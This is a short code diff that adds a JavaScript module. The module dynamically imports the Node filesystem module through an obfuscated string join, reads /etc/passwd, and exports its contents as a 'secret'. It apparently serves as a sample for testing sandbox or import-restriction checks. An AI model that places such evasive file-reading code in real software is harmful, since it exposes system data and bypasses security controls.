@@ -1,0 +1,3 @@
+const name = ["node", "fs"].join(":");
+const fs = await import(name);
+export default { secret: fs.readFileSync("/etc/passwd", "utf8") };
